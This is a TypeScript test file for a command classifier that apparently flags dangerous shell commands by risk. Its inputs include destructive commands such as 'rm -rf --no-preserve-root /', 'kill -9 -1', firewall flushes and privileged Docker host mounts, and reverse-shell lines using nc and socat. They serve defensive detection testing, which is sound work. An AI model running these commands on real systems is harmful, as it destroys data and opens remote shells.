import { describe, expect, it } from 'vitest';
import { describeCommand } from './command-semantics.js';

function describe_(line: string) {
  const [program, ...args] = line.split(' ');
  return describeCommand({ program: program!, args });
}
const ids = (line: string) => describe_(line).findings.map((finding) => finding.id);

describe('describeCommand', () => {
  it('splits short option clusters and keeps long names, ignoring option values and operands', () => {
    expect(describe_('rm -rf --no-preserve-root /').flags).toEqual(['r', 'f', 'no-preserve-root']);
    expect(describe_('rm dir -fr').flags).toEqual(['f', 'r']);
    expect(describe_('rm -- -rf').flags).toEqual([]);
    expect(describe_('git commit -m -rf').flags).toEqual(['m']);
  });

  it('finds rm targets among operands only', () => {
    expect(describe_('rm -rf a b').targets.map((target) => target.path)).toEqual(['a', 'b']);
    // Opened to everyone, a place outside the project is read by anyone as well.
    expect(describe_('chmod -R 777 /srv').targets.map((target) => `${target.access}:${target.path}`)).toEqual(
      ['metadata:/srv', 'read:/srv'],
    );
    expect(describe_('chown --reference=ref file').targets.map((target) => target.path)).toEqual(['file']);
    expect(describe_('chmod -x script').targets.map((target) => target.path)).toEqual(['script']);
  });

  it('reads copy and move destinations, including -t', () => {
    expect(describe_('cp -t /dst a b').targets).toEqual([
      { path: '/dst', access: 'write' },
      { path: 'a', access: 'read', argument: 2 },
      { path: 'b', access: 'read', argument: 3 },
      // Where each source lands: the file the protected places are about.
      { path: '/dst/a', access: 'write' },
      { path: '/dst/b', access: 'write' },
    ]);
  });

  it('knows grep and sed scripts are not files', () => {
    expect(describe_('grep -r pattern src').targets.map((target) => target.path)).toEqual(['src']);
    expect(describe_('grep -e pattern src').targets.map((target) => target.path)).toEqual(['src']);
    expect(describe_('sed -i s/a/b/ file').targets).toEqual([{ path: 'file', access: 'write', argument: 2 }]);
  });

  it('recognises git force pushes and what they touch', () => {
    expect(ids('git push --force origin main')).toEqual([
      'shell.git_force_push',
      'shell.git_force_push_protected',
    ]);
    expect(ids('git push --force origin topic')).toEqual(['shell.git_force_push']);
    expect(ids('git push origin +topic:main')).toEqual([
      'shell.git_force_push',
      'shell.git_force_push_protected',
    ]);
    expect(ids('git push --force-with-lease origin topic')).toEqual([]);
    expect(ids('git push --force-with-lease origin main')).toEqual(['shell.git_force_push_protected']);
    expect(ids('git push --force=false origin main')).toEqual([]);
    expect(ids('git -c x=y -C dir push -f')).toEqual(['shell.git_force_push']);
  });

  it('recognises git commands that lose work', () => {
    expect(ids('git reset --hard HEAD')).toEqual(['shell.git_reset_hard']);
    expect(ids('git reset --soft HEAD~1')).toEqual([]);
    expect(ids('git clean -fdx')).toEqual(['shell.git_clean']);
    expect(ids('git clean -n -f')).toEqual([]);
    expect(ids('git checkout -- .')).toEqual(['shell.git_discard_all']);
    expect(ids('git checkout -b topic')).toEqual([]);
    expect(ids('git checkout main')).toEqual([]);
    expect(ids('git restore --staged .')).toEqual([]);
    expect(ids('git restore file.ts')).toEqual(['shell.git_discard_changes']);
    expect(ids('git branch -D topic')).toEqual(['shell.git_branch_force_delete']);
    expect(ids('git branch -d topic')).toEqual([]);
    expect(ids('git stash drop')).toEqual(['shell.git_stash_drop']);
    expect(ids('git commit -n -m x')).toEqual(['shell.git_no_verify']);
    expect(ids('git push -n origin main')).toEqual([]);
  });

  it('recognises system, container, cluster and cloud destruction', () => {
    expect(ids('kill -9 -1')).toEqual(['shell.kill_all']);
    expect(ids('kill -1 1234')).toEqual([]);
    expect(ids('crontab -r')).toEqual(['shell.crontab_remove']);
    expect(ids('iptables -F')).toEqual(['shell.firewall_flush']);
    expect(ids('iptables -L')).toEqual([]);
    expect(ids('systemctl status nginx')).toEqual([]);
    expect(ids('systemctl stop nginx')).toEqual(['shell.service_control']);
    expect(ids('docker system prune -af')).toEqual(['shell.docker_prune']);
    expect(ids('docker run --privileged -v /:/host img')).toEqual([
      'shell.docker_privileged',
      'shell.docker_host_mount',
    ]);
    expect(ids('docker run -v ./src:/app img')).toEqual([]);
    expect(ids('kubectl --context prod -n api delete pod x')).toEqual(['shell.kubectl_delete']);
    expect(ids('kubectl get pods')).toEqual([]);
    expect(ids('terraform destroy')).toEqual(['shell.infra_destroy']);
    expect(ids('terraform plan -destroy')).toEqual([]);
    expect(ids('aws ec2 terminate-instances --instance-ids i-1')).toEqual(['shell.cloud_delete']);
    expect(ids('aws s3 cp a s3://b/delete-me.txt')).toEqual([]);
    expect(ids('npm publish')).toEqual(['shell.package_publish']);
    expect(ids('npm pack')).toEqual([]);
  });

  it('recognises reverse shells in nc and socat arguments', () => {
    expect(ids('nc -lvp 4444 -e /bin/bash')).toEqual(['shell.reverse_shell']);
    expect(ids('nc -zv host 22')).toEqual([]);
    expect(ids('socat TCP:host:1 EXEC:/bin/sh')).toEqual(['shell.reverse_shell']);
    expect(ids('socat - TCP:host:80')).toEqual([]);
  });
});

describe('describeCommand for git, as git reads its options', () => {
  it('completes unambiguous abbreviations and ignores ambiguous ones, like git', () => {
    expect(ids('git reset --har HEAD~1')).toEqual(['shell.git_reset_hard']);
    expect(ids('git clean --forc')).toEqual(['shell.git_clean']);
    expect(ids('git branch --del --forc topic')).toEqual(['shell.git_branch_force_delete']);
    expect(ids('git switch --discard-ch main')).toEqual(['shell.git_discard_all']);
    // git itself refuses `--forc` for push: force, force-with-lease and force-if-includes all match.
    expect(ids('git push --forc origin main')).toEqual([]);
  });

  it('expands aliases given with -c', () => {
    expect(ids('git -c alias.fp=push fp --force origin main')).toEqual([
      'shell.git_force_push',
      'shell.git_force_push_protected',
    ]);
    expect(ids('git -calias.force=push force origin +main')).toEqual([
      'shell.git_force_push',
      'shell.git_force_push_protected',
    ]);
  });

  it('reads checkout -f with -B, restore negations, help and aborts', () => {
    expect(ids('git checkout -f -B topic HEAD~1')).toEqual(['shell.git_discard_all']);
    expect(ids('git restore --no-staged file.txt')).toEqual([]);
    expect(ids('git restore -S -W file.txt')).toEqual(['shell.git_discard_changes']);
    expect(ids('git restore file.txt --help')).toEqual([]);
    expect(ids('git rebase --abort')).toEqual(['shell.git_discard_changes']);
    expect(ids('git merge --abor')).toEqual(['shell.git_discard_changes']);
  });
});
